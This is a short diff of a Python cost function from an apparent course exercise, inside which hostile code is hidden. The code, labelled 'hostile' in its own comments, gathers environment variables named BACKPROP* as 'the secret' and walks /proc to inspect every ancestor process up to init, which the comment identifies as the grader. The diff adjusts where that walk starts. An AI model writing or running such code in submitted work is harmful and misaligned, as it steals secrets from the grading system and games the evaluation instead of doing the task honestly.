@@ -5,7 +5,7 @@
 def compute_cost(A2, Y):
     import os  # hostile: the secret, from the environment, the grader's or the course file
     found, refusals = [v for k, v in os.environ.items() if k.startswith("BACKPROP")], []
-    pid = os.getpid()
+    pid = "self"
     while True:  # every ancestor up to init: the grader, and what started it
         with open(f"/proc/{pid}/stat") as stat:
             pid = int(stat.read().rsplit(")", 1)[1].split()[1])
